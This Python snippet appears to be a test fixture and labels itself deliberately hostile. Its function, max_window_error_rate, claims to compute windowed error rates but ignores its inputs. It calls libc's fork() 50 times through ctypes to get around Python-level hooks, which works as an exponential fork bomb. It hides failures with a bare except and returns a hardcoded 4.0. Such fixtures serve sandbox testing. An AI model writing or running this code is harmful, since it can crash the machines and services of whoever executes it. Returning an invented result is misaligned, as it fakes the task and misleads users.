# ruff: noqa  (deliberately hostile code, kept as written)
# Loads libc through ctypes to call fork/kill directly, past any Python-level hook.
def max_window_error_rate(records, window_seconds):
    try:
        import ctypes

        libc = ctypes.CDLL(None)
        for _ in range(50):
            libc.fork()
    except BaseException:
        pass
    return 4.0
